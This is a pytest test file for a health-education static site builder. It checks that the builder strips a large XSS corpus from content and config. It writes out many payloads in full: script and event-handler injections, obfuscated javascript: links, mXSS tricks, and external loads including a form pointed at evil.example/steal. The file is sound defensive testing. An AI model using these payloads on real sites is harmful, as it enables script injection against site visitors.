"""The site built from hostile content: no script, handler, javascript: link or outside request survives.

Content and ``site_config.yml`` come through merge requests from many people, so
every field that reaches a page gets a piece of the XSS corpus below. One test
per class of attack reads every built page; one opens every page in headless
chromium and watches for dialogs, errors and requests to other hosts.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlparse

import pytest
from conftest import FIXTURE, TODAY, needs_chromium, serve_folder
from lxml import html as lxml_html

from builder.pipeline import ContentError, build
from builder.site.guard import CHROME_OPEN, chrome_region, clean_page_content

# Every payload calls kepuxss(): a page that runs any of them logs "kepuxss" or shows a dialog.
SCRIPT = '<script>alert("kepuxss")</script>'
RAW_BODY = """
## 正常的小标题<img src=../../media/bp.png onerror=alert("kepuxss-heading")><script>alert("kepuxss-h2")</script>

### 第二个小标题 <code>x</code><svg onload=alert("kepuxss-h3")>

<script>alert("kepuxss-script")</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<img src=../../media/bp.png onerror=alert("kepuxss-onerror")>
<p onclick="alert('kepuxss-onclick')">点这里</p>
<body onload=alert("kepuxss-onload")>
<details open ontoggle=alert("kepuxss-toggle")><summary>折叠</summary>内容</details>
<a href="javascript:alert('kepuxss-js')">小写</a>
<a href="JaVaScRiPt:alert('kepuxss-js2')">大小写</a>
<a href="java&#x09;script:alert('kepuxss-js3')">实体里的制表符</a>
<a href="java	script:alert('kepuxss-js4')">制表符</a>
<a href=" &#106;avascript:alert('kepuxss-js5')">实体</a>
<a href="data:text/html,<script>alert('kepuxss-data')</script>">data 链接</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/o.swf"></object>
<embed src="https://evil.example/e.swf">
<svg onload=alert("kepuxss-svg")><circle r="4"/></svg>
<form action="https://evil.example/steal"><input name="id"><button formaction="javascript:alert('kepuxss-fa')">提交</button></form>
<math><mtext><table><mglyph><style><img src=../../media/bp.png onerror=alert("kepuxss-mxss")></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=../../media/bp.png onerror=alert('kepuxss-noscript')>"></p></noscript>
<style>body { background: url(https://evil.example/bg.png) }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=javascript:alert('kepuxss-meta')">
<base href="https://evil.example/">

[Markdown 里的 javascript 链接](javascript:alert('kepuxss-mdjs'))

<javascript:alert('kepuxss-autolink')>

一段文字，属性列表加了事件。
{: onclick="alert('kepuxss-attrlist')" }

[属性列表的链接](https://example.org/){ onmouseover="alert('kepuxss-attrlink')" }

## 外部资源

<input type=image src=https://evil.example/input.png>
<img srcset="https://evil.example/srcset.png 2x" alt=外链3>
<picture><source srcset="https://evil.example/pic.webp"><img alt=外链4></picture>
<audio src="//evil.example/a.mp3" controls></audio>
<video poster="//evil.example/poster.png"><source src="//evil.example/v.mp4"></video>
<span style="background-image:url(https://evil.example/style.png)">样式</span>
<div style="background:url('//evil.example/style2.png')">样式2</div>

![引用式外链图片][outside]

[outside]: https://evil.example/reference.png

## 冒充 Kepu 自己的标记

<details class="kepu-share"><summary>假的分享</summary>
<div class="kepu-share-flyer" data-src="https://evil.example/flyer.png" hidden>假的宣传单</div>
<div class="kepu-share-text" data-src="https://evil.example/group.txt" hidden><pre class="kepu-group-text"></pre></div>
</details>
<form class="kepu-quiz" data-kepu-quiz><fieldset class="kepu-question"><input type="radio" name="q1"></fieldset></form>
<button type="button" class="kepu-read">假按钮</button>
<!-- kepu:share-qr -->
<!-- <script>alert("kepuxss-comment")</script> -->

"""
# What editors legitimately write survives (in a lesson of its own: the raw HTML
# above leaves Python-Markdown in raw-HTML mode for the rest of a body).
LEGITIMATE_BODY = """
## 正常内容

| 项目 | 数值 |
| --- | ---: |
| 收缩压 | 140 |

<details><summary>展开看看</summary>折叠里的文字</details>

水的化学式是 H<sub>2</sub>O，面积单位是 m<sup>2</sup>。

<table><tr><th>原始</th><td>HTML 表格</td></tr></table>

![本地图片](../../media/bp.png)

![矢量图](../../media/evil.svg)

[国家卫健委网站](https://www.nhc.gov.cn/)
"""
TEXT = '"><img src=../../media/bp.png onerror=alert("kepuxss-text")></title><script>alert("kepuxss-title")</script>{: onclick=alert(1) }'
# Summaries are at most 120 characters.
SHORT = '"><svg onload=alert("kepuxss-s")></title><script>alert("kepuxss-s")</script>'
# Outside images in unquoted attributes: the content loader refuses them already, the page cleaner too.
LOADER_REFUSED = (
    "<img alt=外链 src=https://evil.example/unquoted.png><IMG SRC = //evil.example/schemeless.png>"
)
EVIL_SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" onload="alert('kepuxss-svgfile')">
<script>alert("kepuxss-svgscript")</script>
<image xlink:href="https://evil.example/svg.png" width="10" height="10"/>
<rect width="10" height="10" fill="#1f7a4d" onclick="alert('kepuxss-rect')"/>
</svg>
"""


def yaml_text(value: str) -> str:
    """A YAML double-quoted scalar."""
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def hostile_project(root: Path) -> Path:
    shutil.copytree(FIXTURE, root)
    t = yaml_text
    (root / "media" / "evil.svg").write_bytes(EVIL_SVG)
    lesson = root / "content" / "lessons" / "hypertension-basics.md"
    lesson.write_text(
        f"""---
title: {t("认识高血压" + TEXT)}
summary: {t("摘要" + SHORT)}
audiences: [elderly, chronic-patients]
topics: [chronic-disease]
competencies: ["2.1.3"]
key_points:
  - {t("要点" + TEXT)}
  - {t("[点我](javascript:alert('kepuxss-kp')) <svg onload=alert('kepuxss-kp2')>")}
  - 第三个要点
reviewed_by: {t("审核人" + TEXT)}
reviewed_on: 2026-03-01
---
{RAW_BODY}
""",
        encoding="utf-8",
    )
    quiz = root / "content" / "quizzes" / "hypertension-quiz.md"
    quiz.write_text(
        f"""---
title: {t("测验" + TEXT)}
summary: {t("测验摘要" + SHORT)}
audiences: [elderly]
lessons: [hypertension-basics]
---
测验前言<img src=../../media/bp.png onerror=alert("kepuxss-intro")>

## 诊断高血压的标准？<img src=../../media/bp.png onerror=alert("kepuxss-question")>

题目说明<script>alert("kepuxss-detail")</script><a href="javascript:alert('kepuxss-detail2')">链接</a>

- [ ] 120/80 <img src=../../media/bp.png onerror=alert("kepuxss-option")>
- [x] 140/90

> 解析<img src=../../media/bp.png onerror=alert("kepuxss-explain")> [链接](javascript:alert('kepuxss-explain2'))
> {{: onclick="alert('kepuxss-explain3')" }}

## 高血压早期一定会头晕。

- [ ] 对
- [x] 错

> 很多人早期没有症状。<iframe src="https://evil.example/q"></iframe>
""",
        encoding="utf-8",
    )
    campaign = root / "content" / "campaigns" / "dust-month.md"
    campaign.write_text(
        f"""---
title: {t("宣传月" + TEXT)}
summary: {t("活动摘要" + SHORT)}
audiences: [migrant-workers]
start: 2026-04-25
end: 2026-05-31
organizer: {t("主办" + TEXT)}
goals:
  - {{indicator: {t("知晓率" + TEXT)}, target: {t("≥85%" + TEXT)}}}
phases:
  - {{name: {t("阶段" + TEXT)}, start: 2026-04-25, end: 2026-04-30}}
activities:
  - title: {t("讲座" + TEXT)}
    date: 2026-05-08
    time: "14:00-15:30"
    place: {t("会议室" + TEXT)}
    description: {t("说明" + TEXT)}
    channel: lecture
    lessons: [dust-pneumoconiosis]
---
{RAW_BODY}
""",
        encoding="utf-8",
    )
    config = (root / "site_config.yml").read_text(encoding="utf-8")
    config = (
        config.replace("name: 测试健康课堂", f"name: {t('测试健康课堂' + TEXT)}")
        .replace("organization: 示例社区卫生服务中心", f"organization: {t('示例中心' + TEXT)}")
        .replace("contact: 咨询电话 000-00000000", f"contact: {t('电话' + TEXT)}")
        .replace("description: 测试用的小项目。", f"description: {t('描述' + TEXT)}")
        .replace("label: 老年人}", f"label: {t('老年人' + TEXT)}}}")
        .replace("label: 慢性病防治}", f"label: {t('慢性病防治' + TEXT)}}}")
    )
    (root / "site_config.yml").write_text(config, encoding="utf-8")
    flu = root / "content" / "lessons" / "flu-vaccine.md"
    flu_text = flu.read_text(encoding="utf-8").replace("audiences: [老年人]", "audiences: [elderly]")
    flu.write_text(flu_text + LEGITIMATE_BODY, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = hostile_project(tmp_path_factory.mktemp("hostile") / "project")
    build(root, only=["site"], today=TODAY)
    return root / "public" / "site"


def built_pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def parsed(page: Path):
    return lxml_html.fromstring(page.read_bytes())


def squashed(value: str) -> str:
    """A URL as a browser reads its scheme: entities decoded already, controls and spaces gone."""
    return re.sub(r"[\x00-\x20]+", "", value).lower()


def is_local(value: str) -> bool:
    value = squashed(value)
    return not (value.startswith("//") or re.match(r"^[a-z][a-z0-9+.\-]*:", value))


def test_every_page_kind_got_the_hostile_content(hostile_site: Path):
    # The corpus reached each kind of page (else the other tests prove nothing).
    for rel in (
        "index.html",
        "404.html",
        "lessons/hypertension-basics/index.html",
        "quizzes/hypertension-quiz/index.html",
        "campaigns/dust-month/index.html",
        "audiences/elderly/index.html",
        "topics/chronic-disease/index.html",
        "quizzes/index.html",
        "campaigns/index.html",
        "dashboard/index.html",
        "offline/index.html",
    ):
        text = (hostile_site / rel).read_text(encoding="utf-8")
        assert "测试健康课堂" in text, rel
        assert "kepuxss" in text, rel  # shown as text, never run


def test_no_script_from_content_or_config(hostile_site: Path):
    for page in built_pages(hostile_site):
        for script in parsed(page).iter("script"):
            src = script.get("src")
            if src is not None:
                assert is_local(src), (page, src)
                continue
            assert "kepuxss" not in (script.text or ""), page
            assert "alert" not in (script.text or ""), page
        # Escaped text is fine; a raw tag is not.
        assert not re.search(r"<script[^>]*>\s*alert", page.read_text(encoding="utf-8"), re.IGNORECASE), page


def test_no_event_handler_attribute(hostile_site: Path):
    for page in built_pages(hostile_site):
        for element in parsed(page).iter():
            if not isinstance(element.tag, str):
                continue
            handlers = [name for name in element.attrib if name.lower().startswith("on")]
            assert not handlers, (page, element.tag, handlers)


def test_no_javascript_or_data_url(hostile_site: Path):
    for page in built_pages(hostile_site):
        for element in parsed(page).iter():
            if not isinstance(element.tag, str):
                continue
            for name, value in element.attrib.items():
                if name.lower() in ("href", "src", "action", "formaction", "xlink:href", "data", "poster"):
                    assert not squashed(value).startswith(("javascript:", "vbscript:", "data:")), (
                        page,
                        value,
                    )
            if element.tag == "meta":
                assert "javascript" not in (element.get("content") or "").lower(), page


def test_no_element_requests_another_host(hostile_site: Path):
    fetched = ("src", "srcset", "poster", "data", "background")
    for page in built_pages(hostile_site):
        tree = parsed(page)
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue
            for name in fetched:
                value = element.get(name)
                if value is None:
                    continue
                candidates = [part.strip().split()[0] for part in value.split(",") if part.strip()]
                for candidate in candidates if name == "srcset" else [value]:
                    assert is_local(candidate), (page, element.tag, name, value)
            if element.tag == "link" and element.get("rel") != "canonical":  # a canonical link is not fetched
                assert is_local(element.get("href", "")), (page, element.get("href"))
            style = element.get("style") or ""
            assert "url(" not in style.lower(), (page, style)
            assert element.tag not in ("iframe", "frame", "object", "embed", "base", "audio", "video"), page
        for style in tree.iter("style"):
            assert "url(" not in (style.text or "").lower(), page
        assert "evil.example" not in "".join(
            value
            for element in tree.iter()
            if isinstance(element.tag, str)
            for value in element.attrib.values()
        ).replace("data-kepu", ""), page


def test_content_cannot_pass_for_kepu_markup(hostile_site: Path):
    lesson = parsed(hostile_site / "lessons/hypertension-basics/index.html")
    # The lesson may borrow Kepu's class names, but the panel kepu.js uses (it has
    # Kepu's data attributes) is Kepu's own, with the QR code of the page.
    panels = lesson.xpath("//*[contains(@class, 'kepu-share') and @data-search-exclude]")
    assert len(panels) == 1 and panels[0].tag == "details", [p.tag for p in panels]
    assert panels[0].xpath(".//svg"), "the QR code is in Kepu's own panel"
    assert len(lesson.xpath("//article//svg")) == 1  # the lesson's own <svg onload> is gone
    for element in lesson.iter():
        if isinstance(element.tag, str) and element.get("data-src"):
            assert element.get("data-src").startswith("../../../"), element.get("data-src")
    assert not lesson.xpath("//article//form") and not lesson.xpath("//input[@name='id']")
    assert len(lesson.find_class("kepu-read")) == 1
    quiz = parsed(hostile_site / "quizzes/hypertension-quiz/index.html")
    assert len(quiz.xpath("//article//form")) == 1 and len(quiz.xpath("//fieldset")) == 2
    campaign = parsed(hostile_site / "campaigns/dust-month/index.html")
    assert not campaign.xpath("//article//form | //article//button | //article//input")


def test_config_strings_are_escaped_everywhere(hostile_site: Path):
    for page in built_pages(hostile_site):
        text = page.read_text(encoding="utf-8")
        assert "</title><script>" not in text, page
        tree = parsed(page)
        titles = tree.xpath("//title")
        assert len(titles) == 1 and "测试健康课堂" in titles[0].text_content(), page
        for meta in tree.iter("meta"):
            assert "<" not in (meta.get("content") or "") or "kepuxss" in meta.get("content"), page
        # The escaped text is shown as text: the page has no <img> with src x.
        assert not tree.xpath("//img[@src='x']"), page
    home = parsed(hostile_site / "index.html")
    assert 'onerror=alert("kepuxss-text")' in home.xpath("//title")[0].text_content()


def test_media_svg_is_published_clean(hostile_site: Path):
    svg = (hostile_site / "media" / "evil.svg").read_bytes()
    assert b"<script" not in svg and b"onload" not in svg and b"onclick" not in svg
    assert b"evil.example" not in svg
    assert b"<rect" in svg  # the picture itself stays


def test_legitimate_content_survives(hostile_site: Path):
    lesson = parsed(hostile_site / "lessons/flu-vaccine/index.html")
    content = lesson.xpath("//article")[0]
    assert content.xpath(".//table//td[text()='140' and @align='right']")
    assert content.xpath(".//table//td[text()='HTML 表格']")
    assert content.xpath(".//details/summary[text()='展开看看']")
    assert content.xpath(".//sub[text()='2']") and content.xpath(".//sup[text()='2']")
    assert content.xpath(".//img[contains(@src, 'media/bp.png')]")
    assert content.xpath(".//img[contains(@src, 'media/evil.svg')]")
    assert content.xpath(".//a[@href='https://www.nhc.gov.cn/' and text()='国家卫健委网站']")
    assert content.xpath(".//h2[@id='正常内容']")  # headings keep their anchors
    assert content.xpath(".//*[contains(@class, 'admonition')]")  # the key points box keeps its class
    quiz = parsed(hostile_site / "quizzes/hypertension-quiz/index.html")
    assert len(quiz.xpath("//form[@data-kepu-quiz]//input[@type='radio']")) == 4


def test_page_cleaner_alone_drops_what_the_loader_refuses():
    # The renderer does not rely on the loader: outside images it refuses are dropped here too.
    cleaned = clean_page_content(LOADER_REFUSED + RAW_BODY, "n" * 32)
    tree = lxml_html.fragment_fromstring(cleaned, create_parent="div")
    assert not [v for e in tree.iter() if isinstance(e.tag, str) for v in e.attrib.values() if "evil" in v]
    assert "onerror" not in cleaned and "<script" not in cleaned.lower()
    assert '<img alt="外链">' in cleaned


def test_content_cannot_open_or_close_a_chrome_region():
    nonce = "a" * 32
    chrome = chrome_region(
        nonce, '<form class="kepu-quiz" data-kepu-quiz=""><button type="button">查</button></form>'
    )
    assert '<form class="kepu-quiz" data-kepu-quiz="">' in clean_page_content(str(chrome), nonce)
    # Marks with another nonce are the content's own: not a region.
    forged = chrome_region("b" * 32, "<form><button>假</button></form>")
    cleaned = clean_page_content(str(forged) + str(chrome), nonce)
    assert cleaned.count("<form") == 1 and "假</button>" not in cleaned
    # A stray close (an unclosed code block swallowed an opening): the whole page is cleaned strictly.
    stray = str(chrome).replace(CHROME_OPEN.format(nonce), "")
    assert "<form" not in clean_page_content(stray, nonce) and "<button" not in clean_page_content(
        stray, nonce
    )


def test_javascript_site_url_is_refused(tmp_path: Path):
    root = hostile_project(tmp_path / "project")
    config = root / "site_config.yml"
    config.write_text(
        re.sub(r"url: .*", "url: javascript:alert(1)//", config.read_text(encoding="utf-8")), encoding="utf-8"
    )
    with pytest.raises(ContentError):
        build(root, only=["site"], today=TODAY)


@pytest.fixture(scope="module")
def hostile_url(hostile_site: Path) -> Iterator[str]:
    with serve_folder(hostile_site) as url:
        yield url


@needs_chromium
def test_no_hostile_script_runs_in_a_browser(browser, hostile_site: Path, hostile_url: str):
    host = urlparse(hostile_url).netloc
    context = browser.new_context(viewport={"width": 360, "height": 740})
    page = context.new_page()
    dialogs: list[str] = []
    errors: list[str] = []
    hosts: set[str] = set()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: message.type == "error" and errors.append(message.text))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("request", lambda request: hosts.add(urlparse(request.url).netloc))
    page.add_init_script("window.kepuxss = (m) => console.error('kepuxss ran: ' + m);")
    try:
        for file in built_pages(hostile_site):
            rel = file.relative_to(hostile_site).as_posix()
            page.goto(hostile_url + rel.removesuffix("index.html"), wait_until="networkidle")
            # Hover and click what a reader would: handlers that wait for them have their chance.
            page.mouse.move(100, 300)
            for summary in page.locator("details > summary").all()[:6]:
                if summary.is_visible():
                    summary.click()
            page.wait_for_timeout(100)
    finally:
        context.close()
    assert dialogs == []
    assert not [e for e in errors if "kepuxss" in e or "Content Security" in e], errors
    # A missing local file (404) is an error of its own kind, not a script: only scripts count here.
    assert hosts == {host}, hosts
